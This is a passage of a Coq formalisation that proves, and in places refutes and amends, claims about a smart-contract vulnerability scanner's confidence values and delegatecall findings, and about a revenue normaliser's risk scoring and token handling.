  { assert (Hm : (Nat.min p 4 = 0 \/ Nat.min p 4 = 1 \/ Nat.min p 4 = 2
                  \/ Nat.min p 4 = 3 \/ Nat.min p 4 = 4)%nat) by lia.
    destruct Hm as [-> | [-> | [-> | [-> | ->]]]]; simpl; tauto. }
  specialize (H Hn3 (Nat.min p 4) Hp4).
  apply andb_true_iff in H. destruct H as [H1 H2].
  split; [ exact H1 | ].
  fold v in H2. destruct (generateExploitStrategy v); [ exact H2 | exact I ].
Qed.

Lemma within_5_95_spec (q : Q) : Checks.within_5_95 q = true -> (5 <= q <= 95)%Q.
Proof.
  unfold Checks.within_5_95. intros H. apply andb_true_iff in H.
  destruct H as [H1 H2]. split; apply Qle_bool_iff; assumption.
Qed.

End ConfidenceTheorem.

(** C2: whatever the source text, in double precision as in exact
    arithmetic, the confidence of every finding of the scanner and of every
    strategy generated from the findings (after the factors 0.8, 0.7 and
    0.6 of the access-control, integer-overflow and unchecked-call
    generators) lies between 5 and 95 inclusive. *)
Theorem C2_confidence_between_5_and_95 :
  forall (exact : bool) (sourceCode : string),
    let vulnerabilities :=
      @ConcreteExecution.analyzeForVulnerabilities (Scenario.arith exact) sourceCode in
    Forall (fun v => (5 <= v_confidence v <= 95)%Q) vulnerabilities
    /\ Forall (fun s => (5 <= confidence s <= 95)%Q)
         (@ConcreteExecution.exploitStrategiesOf (Scenario.arith exact) vulnerabilities).
Proof.
  intros exact sourceCode vulnerabilities.
  assert (Hv : forall v, In v vulnerabilities ->
             (5 <= v_confidence v <= 95)%Q
             /\ forall s, @ConcreteExecution.generateExploitStrategy (Scenario.arith exact) v = Some s ->
                          (5 <= confidence s <= 95)%Q).
  { intros v Hin. apply analyze_entry in Hin.
    destruct Hin as (t & config & n & _ & Hn & _ & ->). simpl.
    rewrite confidenceOf_saturates.
    destruct (confidenceTable_entry exact t n (ConcreteExecution.protectionCount sourceCode) Hn)
      as [H1 H2].
    split; [ apply within_5_95_spec; exact H1 | ].
    intros s Hs.
    match type of Hs with ConcreteExecution.generateExploitStrategy ?v = _ =>
      pose proof (@strategy_confidence_of (Scenario.arith exact) v
        (@Checks.vulnerabilityOn (Scenario.arith exact) t EmptyString EmptyString
           (Nat.min n 3) (Nat.min (ConcreteExecution.protectionCount sourceCode) 4))
        eq_refl) as Hc
    end.
    specialize (Hc eq_refl). rewrite Hs in Hc.
    destruct (@ConcreteExecution.generateExploitStrategy (Scenario.arith exact)
                (Checks.vulnerabilityOn t EmptyString EmptyString (Nat.min n 3)
                   (Nat.min (ConcreteExecution.protectionCount sourceCode) 4)))
      as [s' | ]; [ | discriminate ].
    simpl in Hc. injection Hc as ->. apply within_5_95_spec; exact H2. }
  split.
  - apply Forall_forall. intros v Hin. apply Hv; exact Hin.
  - apply Forall_forall. intros s Hin.
    unfold ConcreteExecution.exploitStrategiesOf in Hin.
    apply in_flat_map in Hin. destruct Hin as (v & Hin & Hs).
    destruct (ConcreteExecution.generateExploitStrategy v) as [s' | ] eqn:Hg; [ | contradiction ].
    destruct Hs as [<- | []]. apply (Hv v Hin). exact Hg.
Qed.

(** ** The selection of the strategy *)

Section Selection.

Import ConcreteExecution.
Context {A : JsNum.Arith}.

Lemma gt_true (x y : Q) : JsNum.gt x y = true <-> (y < x)%Q.
Proof.
  unfold JsNum.gt. rewrite negb_true_iff. split; intros H.
  - apply Qnot_le_lt. intros Hle. apply Qle_bool_iff in Hle. congruence.
  - destruct (Qle_bool x y) eqn:E; [ | reflexivity ].
    apply Qle_bool_iff in E. exfalso. apply (Qlt_not_le _ _ H E).
Qed.

Lemma gt_false (x y : Q) : JsNum.gt x y = false <-> (x <= y)%Q.
Proof.
  unfold JsNum.gt. rewrite negb_false_iff. apply Qle_bool_iff.
Qed.

(** The reduction keeps the first strategy of the greatest confidence:
    every strategy before it has a smaller confidence, none after it has a
    greater one. *)
Lemma bestStrategyOf_first_maximum (rest : list Strategy) (first : Strategy) :
  exists before after,
    first :: rest = (before ++ bestStrategyOf first rest :: after)%list
    /\ Forall (fun s => (confidence s < confidence (bestStrategyOf first rest))%Q) before
    /\ Forall (fun s => (confidence s <= confidence (bestStrategyOf first rest))%Q) after.
Proof.
  unfold bestStrategyOf.
  induction rest as [ | current rest IH ] using rev_ind.
  - exists [], []. simpl. repeat split; constructor.
  - rewrite fold_left_app. simpl.
    destruct IH as (before & after & Heq & Hb & Ha).
    set (best := fold_left better rest first) in *.
    unfold better. destruct (JsNum.gt (confidence current) (confidence best)) eqn:E.
    + apply gt_true in E.
      exists (before ++ best :: after)%list, [].
      split; [ rewrite app_comm_cons, Heq, <- app_assoc; reflexivity | ].
      split; [ | constructor ].
      apply Forall_app. split.
      * eapply Forall_impl; [ | exact Hb ]. intros s Hs. simpl in Hs.
        eapply Qlt_trans; eauto.
      * constructor; [ exact E | ].
        eapply Forall_impl; [ | exact Ha ]. intros s Hs. simpl in Hs.
        eapply Qle_lt_trans; eauto.
    + apply gt_false in E.
      exists before, (after ++ [current])%list.
      split; [ rewrite app_comm_cons, Heq, <- app_assoc; reflexivity | ].
      split; [ exact Hb | ].
      apply Forall_app. split; [ exact Ha | ]. constructor; [ exact E | constructor ].
Qed.

(** The findings come in the order of the table, which is the order of
    precedence, a category at most once. *)
Lemma scan_sorted (sourceCode : string) (table : list (VulnType * PatternConfig)) :
  StronglySorted (fun a b => (Checks.precedence (fst a) < Checks.precedence (fst b))%nat) table ->
  StronglySorted (fun a b => (Checks.precedence (v_type a) < Checks.precedence (v_type b))%nat)
    (flat_map (scanPattern sourceCode) table).
Proof.
  induction table as [ | [t config] table IH ]; intros Hs; simpl.
  - constructor.
  - apply StronglySorted_inv in Hs. destruct Hs as [Hs Hall].
    destruct (Regex.matchAll (pattern config) sourceCode) as [matches | ]; simpl;
      [ | apply IH; exact Hs ].
    constructor; [ apply IH; exact Hs | ].
    apply Forall_forall. intros v Hin. apply in_flat_map in Hin.
    destruct Hin as ([t' config'] & Hin & Hv). simpl.
    rewrite Forall_forall in Hall. specialize (Hall _ Hin). simpl in Hall.
    unfold scanPattern in Hv.
    destruct (Regex.matchAll (pattern config') sourceCode); [ | contradiction ].
    destruct Hv as [<- | []]. exact Hall.
Qed.

Lemma patterns_sorted :
  StronglySorted (fun a b => (Checks.precedence (fst a) < Checks.precedence (fst b))%nat) patterns.
Proof. unfold patterns. repeat constructor; simpl; lia. Qed.




End Selection.

(** ** Scenario A: a single delegatecall (C8) *)

(** C8, as stated, fails: the text ["x += 1; target.delegatecall(data);"]
    has exactly one occurrence of the delegatecall signature and no
    protective signature, yet the scanner emits two findings, the first of
    them for integer overflow. *)
Lemma C8_another_signature_adds_a_finding :
  let sourceCode := "x += 1; target.delegatecall(data);" in
  Checks.oneDelegateCall sourceCode
  /\ ConcreteExecution.protectionCount sourceCode = 0%nat
  /\ @ConcreteExecution.analyzeForVulnerabilities JsNum.Binary64 sourceCode
     <> [Checks.delegateCallFinding]
  /\ map v_type (@ConcreteExecution.analyzeForVulnerabilities JsNum.Binary64 sourceCode)
     = [integerOverflow; delegateCall].
Proof.
  cbv zeta. split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; discriminate | vm_compute; reflexivity ].
Qed.

Section ScenarioA.

Import ConcreteExecution.

Lemma scan_other_category {A : JsNum.Arith} (sourceCode : string) (t : VulnType)
  (config : PatternConfig) :
  t <> delegateCall ->
  filter Checks.isDelegateCall (scanPattern sourceCode (t, config)) = [].
Proof.
  intros Ht. unfold scanPattern.
  destruct (Regex.matchAll (pattern config) sourceCode); [ | reflexivity ].
  cbn [filter Checks.isDelegateCall v_type].
  destruct t; try reflexivity. contradiction.
Qed.

Lemma scan_delegateCall (exact : bool) (sourceCode : string) (config : PatternConfig) :
  pattern config = Regex.lit "delegatecall" ->
  p_severity config = "critical" ->
  p_description config = "Dangerous delegatecall usage detected" ->
  Checks.oneDelegateCall sourceCode ->
  protectionCount sourceCode = 0%nat ->
  @scanPattern (Scenario.arith exact) sourceCode (delegateCall, config)
  = [Checks.delegateCallFinding].
Proof.
  intros Hp Hs Hd Hone Hprot. unfold scanPattern, Checks.oneDelegateCall in *.
  rewrite Hp, Hs, Hd.
  destruct (Regex.matchAll (Regex.lit "delegatecall") sourceCode) as [matches | ];
    [ | discriminate Hone ].
  cbn [option_map] in Hone. injection Hone as ->.
  unfold calculateConfidence. rewrite Hprot.
  destruct exact; reflexivity.
Qed.

End ScenarioA.

(** C8, amended: for every source text with exactly one occurrence of
    the delegatecall signature and no protective signature, the scanner
    emits exactly one finding of the kind delegatecall, of severity
    critical and confidence 64, in double precision as in exact
    arithmetic; findings of the other kinds are emitted beside it when
    their signatures match, and it is the only finding when none does. *)
Theorem C8_single_delegatecall_finding :
  forall (exact : bool) (sourceCode : string),
    Checks.oneDelegateCall sourceCode ->
    ConcreteExecution.protectionCount sourceCode = 0%nat ->
    let vulnerabilities :=
      @ConcreteExecution.analyzeForVulnerabilities (Scenario.arith exact) sourceCode in
    filter Checks.isDelegateCall vulnerabilities = [Checks.delegateCallFinding]
    /\ ((forall t config,
            In (t, config) ConcreteExecution.patterns -> t <> delegateCall ->
            Regex.matchAll (ConcreteExecution.pattern config) sourceCode = None) ->
        vulnerabilities = [Checks.delegateCallFinding]).
Proof.
  intros exact sourceCode Hone Hprot vulnerabilities. subst vulnerabilities.
  unfold ConcreteExecution.analyzeForVulnerabilities, ConcreteExecution.patterns.
  cbn [flat_map].
  match goal with
  | |- context [ConcreteExecution.scanPattern _ (delegateCall, ?config)] =>
      rewrite (scan_delegateCall exact sourceCode config eq_refl eq_refl eq_refl Hone Hprot)
  end.
  split.
  - rewrite !filter_app.
    rewrite !scan_other_category by discriminate.
    reflexivity.
  - intros Hnone.
    assert (Hscan : forall t config,
               In (t, config) ConcreteExecution.patterns -> t <> delegateCall ->
               @ConcreteExecution.scanPattern (Scenario.arith exact) sourceCode (t, config) = []).
    { intros t config Hin Ht. unfold ConcreteExecution.scanPattern.
      rewrite (Hnone t config Hin Ht). reflexivity. }
    unfold ConcreteExecution.patterns in Hscan.
    rewrite !Hscan by (first [ discriminate | simpl; tauto ]).
    reflexivity.
Qed.

(** C8 applies: the text ["target.delegatecall(data);"] has one
    delegatecall, no protective signature and no other signature; its scan
    is the single finding of the scenario. *)
Lemma C8_single_delegatecall_witness :
  let sourceCode := "target.delegatecall(data);" in
  Checks.oneDelegateCall sourceCode
  /\ ConcreteExecution.protectionCount sourceCode = 0%nat
  /\ filter Checks.isDelegateCall
       (@ConcreteExecution.analyzeForVulnerabilities JsNum.Binary64 sourceCode)
     = [Checks.delegateCallFinding].
Proof.
  cbv zeta.
  assert (H1 : Checks.oneDelegateCall "target.delegatecall(data);") by (vm_compute; reflexivity).
  assert (H2 : ConcreteExecution.protectionCount "target.delegatecall(data);" = 0%nat)
    by (vm_compute; reflexivity).
  split; [ exact H1 | ]. split; [ exact H2 | ].
  exact (proj1 (C8_single_delegatecall_finding false "target.delegatecall(data);" H1 H2)).
Defined.

(** ** The composite risk score (C7) *)

(** C7, as stated, fails: on chain 1, a token whose contract reports an
    empty symbol, priced at one dollar in a deep market, is normalised
    without any error, and the net profit is 5000 dollars; the formula of
    the claim gives the score 0 and the level low, while the code scores 4
    for the token and reports the level medium. *)
Lemma C7_nameless_token_scores_four :
  exists out,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 EmptyString) (Scenario.library JsNum.Binary64)
      RiskSpec.namelessArgs = Ok out
    /\ Forall (fun t => RevenueNormalizer.error t = None) (RevenueNormalizer.extractedTokens out)
    /\ RevenueNormalizer.netProfitUSD out = 5000%Q
    /\ @RiskSpec.specRiskScore JsNum.Binary64
         (RevenueNormalizer.extractedTokens out) (RevenueNormalizer.netProfitUSD out) = 0%nat
    /\ @RevenueNormalizer.riskScore JsNum.Binary64
         (RevenueNormalizer.extractedTokens out) (RevenueNormalizer.netProfitUSD out) = 4%nat
    /\ RevenueNormalizer.riskLevel (RevenueNormalizer.summary out) = "medium"
    /\ RiskSpec.specRiskLevel 0 = "low".
Proof.
  eexists. split; [ vm_compute; reflexivity | ].
  split; [ repeat constructor | ].
  repeat split; vm_compute; reflexivity.
Qed.

Section RiskScore.

Import RevenueNormalizer.
Context {A : JsNum.Arith}.

Lemma length_filter_cons {T : Type} (p : T -> bool) (x : T) (l : list T) :
  List.length (filter p (x :: l)) = ((if p x then 1 else 0) + List.length (filter p l))%nat.
Proof. simpl. destruct (p x); reflexivity. Qed.

Lemma lowLiquidity_filter (t : NormalizedToken) :
  (String.eqb (liquidity t) "very-low" || String.eqb (liquidity t) "low")
  = RiskSpec.lowLiquidity t.
Proof. unfold RiskSpec.lowLiquidity. apply orb_comm. Qed.

Lemma riskScore_by_token (tokens : list NormalizedToken) (netProfitUSD : Q) :
  riskScore tokens netProfitUSD = RiskSpec.amendedRiskScore tokens netProfitUSD.
Proof.
  unfold riskScore, RiskSpec.amendedRiskScore, RiskSpec.profitTerm.
  induction tokens as [ | t tokens IH ]; [ reflexivity | ].
  rewrite !length_filter_cons. cbn [fold_right]. unfold RiskSpec.tokenRisk at 1.
  rewrite lowLiquidity_filter.
  fold (RiskSpec.highImpact t). fold (RiskSpec.unknownToken t).
  destruct (RiskSpec.lowLiquidity t), (RiskSpec.highImpact t), (RiskSpec.unknownToken t);
    destruct (JsNum.lt netProfitUSD (JsNum.lit 1000)), (JsNum.lt netProfitUSD (JsNum.lit 100));
    lia.
Qed.

End RiskScore.

(** C7, amended: for every list of normalised tokens and every net
    profit, in any arithmetic, the score is the sum over the tokens of
    2 for a liquidity low or very-low, 3 for a price impact above 0.05 and
    4 for a token that is unknown -- one with an error message that is not
    empty, or with a missing or empty symbol -- plus 2 when the net profit
    is below 1000 and 3 more when it is below 100; the level is very-high
    from 8, high from 5, medium from 2, low otherwise.  A token without
    error contributes nothing to the 4 term exactly when its symbol is not
    empty; on tokens that all have a symbol and no empty error message the
    score is the one the specification words. *)
Theorem C7_risk_score_counts_unknown_tokens :
  forall (A : JsNum.Arith) (tokens : list RevenueNormalizer.NormalizedToken) (netProfitUSD : Q),
    RevenueNormalizer.riskScore tokens netProfitUSD
    = RiskSpec.amendedRiskScore tokens netProfitUSD
    /\ RevenueNormalizer.assessRiskLevel tokens netProfitUSD
       = RiskSpec.specRiskLevel (RiskSpec.amendedRiskScore tokens netProfitUSD)
    /\ Forall (fun t => RevenueNormalizer.error t = None ->
                        RiskSpec.unknownToken t
                        = negb (RevenueNormalizer.truthyText (RevenueNormalizer.symbol t)))
         tokens
    /\ (Forall (fun t => RevenueNormalizer.truthyText (RevenueNormalizer.symbol t) = true
                         /\ RevenueNormalizer.error t <> Some EmptyString) tokens ->
        RevenueNormalizer.riskScore tokens netProfitUSD
        = RiskSpec.specRiskScore tokens netProfitUSD).
Proof.
  intros A tokens netProfitUSD.
  split; [ apply riskScore_by_token | ].
  split; [ unfold RevenueNormalizer.assessRiskLevel; rewrite riskScore_by_token; reflexivity | ].
  split.
  - apply Forall_forall. intros t _ He. unfold RiskSpec.unknownToken. rewrite He. reflexivity.
  - intros Hall. rewrite riskScore_by_token.
    unfold RiskSpec.amendedRiskScore, RiskSpec.specRiskScore, RiskSpec.countIf.
    induction Hall as [ | t tokens' [Hsym Herr] Hall IH ]; [ reflexivity | ].
    rewrite !length_filter_cons. cbn [fold_right]. unfold RiskSpec.tokenRisk at 1.
    assert (Hu : RiskSpec.unknownToken t = RiskSpec.errorPresent t).
    { unfold RiskSpec.unknownToken, RiskSpec.errorPresent. rewrite Hsym.
      destruct (RevenueNormalizer.error t) as [m | ]; [ | reflexivity ].
      simpl. destruct m; [ contradiction Herr; reflexivity | reflexivity ]. }
    rewrite Hu.
    destruct (RiskSpec.lowLiquidity t), (RiskSpec.highImpact t), (RiskSpec.errorPresent t); lia.
Qed.

(** ** The list of normalised tokens (C9, C10) *)

Section TokenList.

Import RevenueNormalizer.
Context {A : JsNum.Arith}.
Variable priceOracle : PriceOracleService.PriceOracle.
Variable ethers : Library.

Lemma processToken_entries (chainId : Z) (blockNumber : option string)
  (tokens : list Extracted.ExtractedToken) (acc : Totals) :
  normalizedTokens (fold_left (processToken priceOracle ethers chainId blockNumber) tokens acc)
  = (normalizedTokens acc ++ map (TwoTokens.entryOf priceOracle ethers chainId blockNumber) tokens)%list.
Proof.
  revert acc. induction tokens as [ | token tokens IH ]; intros acc; simpl.
  - rewrite app_nil_r. reflexivity.
  - rewrite IH. unfold processToken, TwoTokens.entryOf.
    destruct (normalizeToken priceOracle ethers token chainId blockNumber);
      simpl; rewrite <- app_assoc; reflexivity.
Qed.

(** What a successful normalisation keeps of its token, and how it values it. *)
Lemma normalizeToken_ok (token : Extracted.ExtractedToken) (chainId : Z)
  (blockNumber : option string) (n : NormalizedToken) :
  normalizeToken priceOracle ethers token chainId blockNumber = Ok n ->
  address n = Extracted.address token
  /\ amount n = Extracted.amount token
  /\ error n = None
  /\ exists amountDecimal priceData,
       PriceOracleService.getTokenPrice priceOracle (Extracted.address token) chainId blockNumber
       = Ok priceData
       /\ valueUSD n
          = JsNum.Number_toFixed 2
              (JsNum.mul (parseFloat ethers amountDecimal) (PriceOracleService.priceUSD priceData)).
Proof.
  unfold normalizeToken. intros H.
  destruct (negb (truthyText (fst (Extracted.symbol token, Extracted.decimals token)))
            || negb (truthyInt (snd (Extracted.symbol token, Extracted.decimals token)))).
  - destruct (PriceOracleService.getTokenMetadata priceOracle (Extracted.address token) chainId)
      as [fetched | ]; cbn [bind] in H; [ | discriminate H ].
    match type of H with context [formatUnits ethers ?a ?d] =>
      destruct (formatUnits ethers a d) as [amountDecimal | ]; cbn [bind] in H;
        [ | discriminate H ]
    end.
    destruct (PriceOracleService.getTokenPrice priceOracle (Extracted.address token) chainId
                blockNumber) as [priceData | ]; cbn [bind] in H; [ | discriminate H ].
    injection H as <-. cbn. repeat split. exists amountDecimal, priceData. split; reflexivity.
  - cbn [bind] in H.
    match type of H with context [formatUnits ethers ?a ?d] =>
      destruct (formatUnits ethers a d) as [amountDecimal | ]; cbn [bind] in H;
        [ | discriminate H ]
    end.
    destruct (PriceOracleService.getTokenPrice priceOracle (Extracted.address token) chainId
                blockNumber) as [priceData | ]; cbn [bind] in H; [ | discriminate H ].
    injection H as <-. cbn. repeat split. exists amountDecimal, priceData. split; reflexivity.
Qed.

Lemma entryOf_address (chainId : Z) (blockNumber : option string)
  (token : Extracted.ExtractedToken) :
  address (TwoTokens.entryOf priceOracle ethers chainId blockNumber token)
  = Extracted.address token.
Proof.
  unfold TwoTokens.entryOf.
  destruct (normalizeToken priceOracle ethers token chainId blockNumber) as [n | message] eqn:E.
  - apply normalizeToken_ok in E. tauto.
  - reflexivity.
Qed.

(** [execute] returns whenever the schema check passes, the native price
    resolves and the gas computation does not throw; the entries of its
    result are those of the loop. *)
Lemma execute_returns (args : Args) (native : Q) (gas : GasCosts) :
  (0 < arg_chainId args)%Z ->
  PriceOracleService.getNativeTokenPrice priceOracle (arg_chainId args) (arg_blockNumber args)
  = Ok native ->
  calculateGasCosts ethers (arg_gasUsed args) (arg_gasPrice args) native = Ok gas ->
  exists out,
    execute priceOracle ethers args = Ok out
    /\ extractedTokens out
       = map (TwoTokens.entryOf priceOracle ethers (arg_chainId args) (arg_blockNumber args))
           (arg_extractedTokens args)
    /\ gasCosts out = gas
    /\ totalValueUSD out
       = JsNum.Number_toFixed 2
           (sumUSD (processTokens priceOracle ethers (arg_chainId args) (arg_blockNumber args)
                      (arg_extractedTokens args))).
Proof.
  intros Hchain Hnative Hgas. unfold execute, normalize.
  apply Z.ltb_lt in Hchain. rewrite Hchain, Hnative. cbn [bind]. rewrite Hgas. cbn [bind].
  eexists. split; [ reflexivity | ]. cbn [extractedTokens gasCosts totalValueUSD].
  split; [ | split; reflexivity ].
  unfold processTokens. rewrite processToken_entries. reflexivity.
Qed.

End TokenList.

(** C10: for every list of extracted tokens, in any arithmetic and with
    any price oracle, when [execute] is given a valid chain id, the native
    price resolves and the gas computation does not throw, [execute]
    returns, and the list of normalised tokens it returns has the length of
    the input list and carries, position by position, the addresses of the
    input tokens: the i-th entry is the i-th token normalised, or the i-th
    token with its error. *)
Theorem C10_normalised_tokens_follow_the_input :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args) (native : Q) (gas : RevenueNormalizer.GasCosts),
    (0 < RevenueNormalizer.arg_chainId args)%Z ->
    PriceOracleService.getNativeTokenPrice priceOracle
      (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args) = Ok native ->
    RevenueNormalizer.calculateGasCosts ethers
      (RevenueNormalizer.arg_gasUsed args) (RevenueNormalizer.arg_gasPrice args) native = Ok gas ->
    exists out,
      RevenueNormalizer.execute priceOracle ethers args = Ok out
      /\ List.length (RevenueNormalizer.extractedTokens out)
         = List.length (RevenueNormalizer.arg_extractedTokens args)
      /\ map RevenueNormalizer.address (RevenueNormalizer.extractedTokens out)
         = map Extracted.address (RevenueNormalizer.arg_extractedTokens args)
      /\ Forall2
           (fun token entry =>
              match RevenueNormalizer.normalizeToken priceOracle ethers token
                      (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args)
              with
              | Ok normalizedToken => entry = normalizedToken
              | Throw message => entry = RevenueNormalizer.failedToken token message
              end)
           (RevenueNormalizer.arg_extractedTokens args) (RevenueNormalizer.extractedTokens out).
Proof.
  intros A priceOracle ethers args native gas Hchain Hnative Hgas.
  destruct (execute_returns priceOracle ethers args native gas Hchain Hnative Hgas)
    as (out & Hout & Htokens & _ & _).
  exists out. split; [ exact Hout | ]. rewrite Htokens.
  split; [ apply length_map | ].
  split.
  - rewrite map_map. apply map_ext. intros token. apply entryOf_address.
  - generalize (RevenueNormalizer.arg_extractedTokens args). intros tokens.
    induction tokens as [ | token tokens IH ]; simpl; constructor; [ | exact IH ].
    unfold TwoTokens.entryOf.
    destruct (RevenueNormalizer.normalizeToken priceOracle ethers token
                (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args));
      reflexivity.
Qed.

(** C10 applies: a dollar coin followed by a token with a malformed
    amount; both addresses come back, in order. *)
Lemma C10_normalised_tokens_witness :
  exists out,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
      (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) = Ok out
    /\ List.length (RevenueNormalizer.extractedTokens out) = 2%nat
    /\ map RevenueNormalizer.address (RevenueNormalizer.extractedTokens out)
       = [Extracted.address TwoTokens.oneDollar; Extracted.address TwoTokens.malformed].
Proof.
  destruct (C10_normalised_tokens_follow_the_input JsNum.Binary64
              (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
              (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed])
              (@JsNum.lit JsNum.Binary64 3000)
              (@RevenueNormalizer.estimatedCosts JsNum.Binary64 None None)
              eq_refl eq_refl eq_refl)
    as (out & Hout & Hlen & Haddr & _).
  exists out. split; [ exact Hout | ]. split; [ exact Hlen | exact Haddr ].
Defined.

(** C9, as stated, fails: the first token is 0.004 of a dollar coin, a
    positive amount at the positive price of one dollar, and it normalises
    without error; the second has the amount "abc" and its normalisation
    throws.  The list returned has two entries, the second with the value
    0, the liquidity 'unknown' and the error of the throw, but the value of
    the first entry is 0 too: 0.004 rounds to 0.00. *)
Lemma C9_first_value_rounds_to_zero :
  exists out n1,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
      (TwoTokens.argsOf [TwoTokens.dust; TwoTokens.malformed]) = Ok out
    /\ @RevenueNormalizer.normalizeToken JsNum.Binary64
         (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
         TwoTokens.dust 1 None = Ok n1
    /\ (0 < RevenueNormalizer.priceUSD n1)%Q
    /\ @RevenueNormalizer.normalizeToken JsNum.Binary64
         (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
         TwoTokens.malformed 1 None = Throw "invalid BigNumberish string"
    /\ RevenueNormalizer.extractedTokens out
       = [n1; @RevenueNormalizer.failedToken JsNum.Binary64 TwoTokens.malformed
                "invalid BigNumberish string"]
    /\ RevenueNormalizer.valueUSD n1 = 0%Q.
Proof.
  eexists. eexists.
  split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  split; [ vm_compute; reflexivity | ].
  split; vm_compute; reflexivity.
Qed.

(** C9, amended: for every input of two extracted tokens of which the
    first normalises and the second throws (the call being otherwise
    valid: chain id, native price and gas computation), in any arithmetic
    and with any price oracle, [execute] returns a list of length 2.  Its
    first entry is the first token exactly as it normalises alone, whose
    value is the product of its amount and its price rounded to two
    decimals (hence nonzero only when that rounding is); its second entry
    has the value 0, the liquidity 'unknown' and, as its error, the message
    of the throw (not empty when that message is not); the total is the
    value of the first entry alone. *)
Theorem C9_failing_token_is_isolated :
  forall (A : JsNum.Arith) (priceOracle : PriceOracleService.PriceOracle) (ethers : Library)
         (args : RevenueNormalizer.Args) (native : Q) (gas : RevenueNormalizer.GasCosts)
         (token1 token2 : Extracted.ExtractedToken)
         (n1 : RevenueNormalizer.NormalizedToken) (message : string),
    (0 < RevenueNormalizer.arg_chainId args)%Z ->
    PriceOracleService.getNativeTokenPrice priceOracle
      (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args) = Ok native ->
    RevenueNormalizer.calculateGasCosts ethers
      (RevenueNormalizer.arg_gasUsed args) (RevenueNormalizer.arg_gasPrice args) native = Ok gas ->
    RevenueNormalizer.arg_extractedTokens args = [token1; token2] ->
    RevenueNormalizer.normalizeToken priceOracle ethers token1
      (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args) = Ok n1 ->
    RevenueNormalizer.normalizeToken priceOracle ethers token2
      (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args)
    = Throw message ->
    exists out entry2,
      RevenueNormalizer.execute priceOracle ethers args = Ok out
      /\ RevenueNormalizer.extractedTokens out = [n1; entry2]
      /\ RevenueNormalizer.valueUSD entry2 = JsNum.lit 0
      /\ RevenueNormalizer.liquidity entry2 = "unknown"
      /\ RevenueNormalizer.error entry2 = Some message
      /\ RevenueNormalizer.address entry2 = Extracted.address token2
      /\ (exists amountDecimal priceData,
             PriceOracleService.getTokenPrice priceOracle (Extracted.address token1)
               (RevenueNormalizer.arg_chainId args) (RevenueNormalizer.arg_blockNumber args)
             = Ok priceData
             /\ RevenueNormalizer.valueUSD n1
                = JsNum.Number_toFixed 2
                    (JsNum.mul (parseFloat ethers amountDecimal)
                               (PriceOracleService.priceUSD priceData)))
      /\ RevenueNormalizer.totalValueUSD out
         = JsNum.Number_toFixed 2 (JsNum.add (JsNum.lit 0) (RevenueNormalizer.valueUSD n1)).
Proof.
  intros A priceOracle ethers args native gas token1 token2 n1 message
         Hchain Hnative Hgas Htokens H1 H2.
  destruct (execute_returns priceOracle ethers args native gas Hchain Hnative Hgas)
    as (out & Hout & Hentries & _ & Htotal).
  exists out, (RevenueNormalizer.failedToken token2 message).
  split; [ exact Hout | ].
  split.
  { rewrite Hentries, Htokens. cbn [map]. unfold TwoTokens.entryOf. rewrite H1, H2. reflexivity. }
  split; [ reflexivity | ]. split; [ reflexivity | ]. split; [ reflexivity | ].
  split; [ reflexivity | ].
  split.
  { apply normalizeToken_ok in H1. destruct H1 as (_ & _ & _ & Hvalue). exact Hvalue. }
  rewrite Htotal, Htokens. unfold RevenueNormalizer.processTokens. cbn [fold_left].
  unfold RevenueNormalizer.processToken at 2. rewrite H1.
  unfold RevenueNormalizer.processToken. rewrite H2. reflexivity.
Qed.

(** C9 applies: a dollar coin, then the token with the amount "abc"; the
    first entry is worth one dollar, the second carries the error. *)
Lemma C9_failing_token_witness :
  exists out entry1 entry2,
    @RevenueNormalizer.execute JsNum.Binary64
      (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
      (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed]) = Ok out
    /\ RevenueNormalizer.extractedTokens out = [entry1; entry2]
    /\ RevenueNormalizer.valueUSD entry1 = 1%Q
    /\ RevenueNormalizer.valueUSD entry2 = 0%Q
    /\ RevenueNormalizer.liquidity entry2 = "unknown"
    /\ RevenueNormalizer.error entry2 = Some "invalid BigNumberish string".
Proof.
  destruct (C9_failing_token_is_isolated JsNum.Binary64
              (Scenario.oracle JsNum.Binary64 3000 1 "USDC") (Scenario.library JsNum.Binary64)
              (TwoTokens.argsOf [TwoTokens.oneDollar; TwoTokens.malformed])
              (@JsNum.lit JsNum.Binary64 3000)
              (@RevenueNormalizer.estimatedCosts JsNum.Binary64 None None)
              TwoTokens.oneDollar TwoTokens.malformed
              (@TwoTokens.entryOf JsNum.Binary64
                 (Scenario.oracle JsNum.Binary64 3000 1 "USDC")
                 (Scenario.library JsNum.Binary64) 1 None TwoTokens.oneDollar)
              "invalid BigNumberish string"
              eq_refl eq_refl eq_refl eq_refl eq_refl eq_refl)
    as (out & entry2 & Hout & Htokens & Hvalue & Hliq & Herr & _).
  exists out, (@TwoTokens.entryOf JsNum.Binary64
                 (Scenario.oracle JsNum.Binary64 3000 1 "USDC")
                 (Scenario.library JsNum.Binary64) 1 None TwoTokens.oneDollar), entry2.
  split; [ exact Hout | ]. split; [ exact Htokens | ].
  split; [ vm_compute; reflexivity | ].
